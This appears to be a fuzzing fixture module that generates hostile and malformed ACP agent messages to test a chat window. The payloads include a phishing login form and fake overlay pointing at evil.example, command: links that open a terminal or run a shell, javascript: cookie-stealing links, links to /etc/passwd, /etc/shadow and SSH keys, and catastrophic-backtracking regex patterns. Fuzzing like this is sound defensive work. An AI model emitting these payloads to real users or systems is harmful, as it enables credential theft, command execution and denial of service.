// What a hostile or broken ACP agent sends the chat (issue 21): floods that froze the window, and
// random, malformed session/update, permission and elicitation requests generated with fast-check from a
// seed, so that a failing run can be replayed with the seed it printed; markdown with HTML (forms, inputs,
// fixed overlays) and links (command:, javascript:, files outside the workspace); elicitation patterns that
// backtrack catastrophically (issue 29); and session/load replays made of the same. Used by
// tiny-acp-agent.mjs's "flood-text", "flood-tools" and "fuzz" verbs and its session/load.
import fc from 'fast-check';

/** `kb` KB with no whitespace at all (varied characters: a layout engine cannot cache one glyph). */
export function wordWithoutSpaces(kb) {
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=-_.,;:!?()[]{}';
    let text = '';
    for (let i = 0; text.length < kb * 1024; i++) {
        text += alphabet[(i * 7919 + (i >> 5) * 31) % alphabet.length];
    }
    return text;
}

/** `count` tool_call updates, each a new call, as fast as the agent can write them. */
export function* toolCallFlood(count) {
    for (let i = 0; i < count; i++) {
        yield { sessionUpdate: 'tool_call', toolCallId: `flood-${i}`, title: `Reading file ${i}`, kind: 'read', status: i % 2 ? 'completed' : 'pending',
            locations: [{ path: `/tmp/flood/${i}.txt` }] };
    }
}

/** Agent markdown that must stay inert (issue 29 parts 1 and 3): forms, inputs, overlays, command and script links. */
const HOSTILE_MARKDOWN = [
    '<form action="https://evil.example/login" method="post"><input type="password" name="p" placeholder="Password"><button>Sign in</button></form>',
    '<div style="position:fixed; inset:0; z-index:99999; background:#fff">Your session expired: sign in again.</div>',
    '<div style="position: sticky; top: 0">sticky</div>', '<select><option>a</option></select><textarea>t</textarea><input type="checkbox">',
    '<map name="m"><area shape="rect" coords="0,0,9,9" href="command:workbench.action.terminal.new"></map><img usemap="#m" src="x">',
    '[Sign in](command:aiCliChat.signInInTerminal?%7B%22command%22%3A%22%2Fbin%2Fsh%22%2C%22args%22%3A%5B%22-c%22%2C%22touch%20%2Ftmp%2Fpwned%22%5D%7D)',
    '<a href="command:workbench.action.terminal.new">terminal</a>', '[click](javascript:alert(document.cookie))', '<a href="javascript:alert(1)">js</a>',
    '[passwd](file:///etc/passwd)', '[up](../../../../etc/shadow)', '<a href="file:///root/.ssh/id_rsa">key</a>', '<iframe src="https://evil.example"></iframe>',
    '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', '<style>body { display: none }</style>', '<base href="https://evil.example/">'
];
const hostileText = fc.oneof(
    { weight: 6, arbitrary: fc.string({ maxLength: 200 }) },
    { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 100 }) },
    {
        weight: 3, arbitrary: fc.constantFrom('[README.md](command:aiCliCompanion.installCli?%5B%22gemini%22%5D)', '<a href="command:workbench.action.terminal.new">x</a>',
            'javascript:alert(1)', 'file:///etc/passwd', '../../../etc/passwd', '```', '~~~~\n', '<!--', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', ...HOSTILE_MARKDOWN,
            '\u0000\u001b[31m', '\ud800', '| a |\n| - |', '$$\n\\frac{1}{0}', '\n\n\n', ':rocket:'.repeat(50))
    }
);
export const hostileMarkdown = fc.array(fc.oneof(fc.constantFrom(...HOSTILE_MARKDOWN), fc.string({ maxLength: 40 })), { minLength: 1, maxLength: 6 })
    .map(parts => parts.join('\n\n'));

/** A long whitespace-free run: only where a step asks for one, so that a run stays bounded. */
const longRun = fc.integer({ min: 1, max: 96 }).map(kb => wordWithoutSpaces(kb));
const anyValue = fc.oneof({ weight: 4, arbitrary: hostileText }, { weight: 1, arbitrary: fc.anything({ maxDepth: 2, maxKeys: 4 }) });
/** Patterns an agent may put on a form field: catastrophic ones (`^(a|a)+$` took seconds on 29 `a` and `!`), unsupported and broken ones. */
export const HOSTILE_PATTERNS = ['^(a|a)+$', '^(a+)+$', '^(a|aa)+$', '^([a-z]*)*$', '(x+x+)+y', '^(\\w+\\s?)*$', '^(a)\\1$', '^(?=.*\\d).{8,}$', '(',
    '^[a-z]+$', '^\\d{3}-\\d{4}$', `(a{${1000}}){2}`, 'a'.repeat(501)];
/** A value that makes the catastrophic patterns backtrack. */
export const BACKTRACKING_VALUE = `${'a'.repeat(29)}!`;
const patternField = fc.record({
    type: fc.oneof({ weight: 4, arbitrary: fc.constant('string') }, { weight: 1, arbitrary: anyValue }),
    title: fc.string({ maxLength: 30 }), pattern: fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...HOSTILE_PATTERNS) }, { weight: 1, arbitrary: anyValue }),
    default: fc.oneof(fc.constant(BACKTRACKING_VALUE), fc.string({ maxLength: 40 })), minLength: fc.integer({ min: -1, max: 5 }), maxLength: fc.integer({ min: 0, max: 20_000 })
}, { requiredKeys: ['type'] });

/** The form the fuzz's turn waits on: a field whose pattern backtracks catastrophically, prefilled with the value that makes it. */
export function backtrackingForm(sessionId, seed) {
    const pattern = HOSTILE_PATTERNS[Math.abs(seed) % 3]; // each doubles its time per `a`: minutes for RegExp
    return { sessionId, mode: 'form', message: `Fuzz ${seed}: a value to check`,
        requestedSchema: { type: 'object', properties: { value: { type: 'string', title: 'Value', pattern, default: BACKTRACKING_VALUE } } } };
}

const toolCallId = fc.oneof({ weight: 5, arbitrary: fc.constantFrom('t1', 't2', 't3', 't4') }, { weight: 1, arbitrary: anyValue });
const contentBlock = fc.oneof(
    fc.record({ type: fc.constantFrom('text', 'image', 'resource_link', 'resource', 'audio', 'bogus'), text: anyValue, uri: anyValue, data: anyValue, mimeType: anyValue },
        { requiredKeys: ['type'] }),
    anyValue
);
const toolContent = fc.oneof(
    fc.record({ type: fc.constantFrom('diff', 'content', 'terminal', 'bogus'), path: anyValue, oldText: anyValue, newText: anyValue, content: contentBlock, terminalId: anyValue },
        { requiredKeys: ['type'] }),
    anyValue
);
const kind = fc.oneof(fc.constantFrom('agent_message_chunk', 'agent_thought_chunk', 'user_message_chunk', 'tool_call', 'tool_call_update', 'plan',
    'available_commands_update', 'current_mode_update', 'usage_update', 'session_info_update', 'no_such_update'), anyValue);
const update = fc.record({
    sessionUpdate: kind,
    content: fc.oneof(contentBlock, fc.array(toolContent, { maxLength: 4 })),
    toolCallId, title: anyValue,
    kind: fc.oneof(fc.constantFrom('read', 'edit', 'delete', 'move', 'search', 'execute', 'think', 'fetch', 'switch_mode', 'other', 'weird'), anyValue),
    status: fc.oneof(fc.constantFrom('pending', 'in_progress', 'completed', 'failed', 'exploded'), anyValue),
    locations: fc.oneof(fc.array(fc.record({ path: anyValue, line: anyValue }), { maxLength: 4 }), anyValue),
    rawInput: anyValue,
    entries: fc.oneof(fc.array(fc.record({ content: anyValue, status: anyValue, priority: anyValue }), { maxLength: 6 }), anyValue),
    availableCommands: fc.oneof(fc.array(fc.record({ name: anyValue, description: anyValue }), { maxLength: 4 }), anyValue),
    currentModeId: anyValue
}, { requiredKeys: ['sessionUpdate'] });
const permission = fc.record({
    toolCall: fc.record({ toolCallId, title: anyValue, kind: anyValue, status: anyValue, locations: anyValue }, { requiredKeys: ['toolCallId'] }),
    options: fc.oneof({ weight: 5, arbitrary: fc.array(fc.record({
        optionId: fc.oneof(fc.string({ maxLength: 20 }), anyValue), name: anyValue,
        kind: fc.oneof(fc.constantFrom('allow_once', 'allow_always', 'reject_once', 'reject_always', 'maybe'), anyValue)
    }), { maxLength: 6 }) }, { weight: 1, arbitrary: anyValue })
});
const longUpdate = fc.oneof(
    longRun.map(text => ({ sessionUpdate: 'agent_message_chunk', content: { type: 'text', text } })),
    longRun.map(text => ({ sessionUpdate: 'agent_thought_chunk', content: { type: 'text', text } })),
    fc.tuple(toolCallId, longRun).map(([id, text]) => ({ sessionUpdate: 'tool_call', toolCallId: id, title: text, content: [{ type: 'content', content: { type: 'text', text } }] })),
    fc.tuple(toolCallId, longRun).map(([id, text]) => ({ sessionUpdate: 'tool_call_update', toolCallId: id, content: [{ type: 'diff', path: '/tmp/x', oldText: text, newText: `${text}\n${text}` }] }))
);
/** `elicitation/create` as a hostile agent sends it: forms with hostile patterns and defaults, odd modes and links. */
const elicitation = fc.record({
    mode: fc.oneof({ weight: 6, arbitrary: fc.constant('form') }, { weight: 1, arbitrary: fc.constantFrom('url', 'bogus') }, { weight: 1, arbitrary: anyValue }),
    message: fc.oneof({ weight: 4, arbitrary: hostileMarkdown }, { weight: 1, arbitrary: anyValue }),
    requestedSchema: fc.oneof({ weight: 6, arbitrary: fc.record({
        type: fc.constant('object'), properties: fc.dictionary(fc.string({ minLength: 1, maxLength: 12 }), patternField, { maxKeys: 4 })
    }) }, { weight: 1, arbitrary: anyValue }),
    url: fc.oneof(fc.constantFrom('https://evil.example/authorise', 'javascript:alert(1)', 'command:workbench.action.terminal.new', 'file:///etc/passwd',
        'https://user:pass@evil.example/'), anyValue)
}, { requiredKeys: ['mode', 'message'] });
const markdownUpdate = fc.tuple(fc.constantFrom('agent_message_chunk', 'agent_thought_chunk', 'user_message_chunk'), hostileMarkdown)
    .map(([sessionUpdate, text]) => ({ sessionUpdate, content: { type: 'text', text } }));

/** One thing the agent does: mostly updates, sometimes a permission or elicitation request (not awaited) or a long run. */
const step = fc.oneof({ weight: 24, arbitrary: update.map(value => ({ update: value })) }, { weight: 2, arbitrary: permission.map(value => ({ permission: value })) },
    { weight: 1, arbitrary: longUpdate.map(value => ({ update: value })) }, { weight: 3, arbitrary: markdownUpdate.map(value => ({ update: value })) },
    { weight: 2, arbitrary: elicitation.map(value => ({ elicitation: value })) });

/** `count` random steps from `seed`: the same seed gives the same steps. */
export function fuzzSteps(seed, count) {
    return fc.sample(step, { seed, numRuns: count });
}

/**
 * A `session/load` replay made from `seed`: user messages among the random updates and the hostile markdown,
 * ending with `Fuzz replay <seed> ends.` (the same seed gives the same replay).
 */
export function fuzzReplay(seed, count) {
    const replayStep = fc.oneof({ weight: 12, arbitrary: update }, { weight: 1, arbitrary: longUpdate }, { weight: 4, arbitrary: markdownUpdate },
        { weight: 3, arbitrary: hostileText.map(text => ({ sessionUpdate: 'user_message_chunk', content: { type: 'text', text } })) });
    return [...fc.sample(replayStep, { seed, numRuns: count }),
        { sessionUpdate: 'user_message_chunk', content: { type: 'text', text: `Fuzz replay ${seed} ends.` } }];
}

/** A replay past the chat's caps (issue 29 part 8): `turns` user messages of `chunks` answer chunks each. */
export function* longReplay(turns, chunks) {
    for (let turn = 0; turn < turns; turn++) {
        yield { sessionUpdate: 'user_message_chunk', content: { type: 'text', text: `Long question ${turn}` } };
        for (let chunk = 0; chunk < chunks; chunk++) {
            yield { sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: `part ${turn}.${chunk} ` } };
        }
    }
    yield { sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: 'The last answer of the long conversation.' } };
}
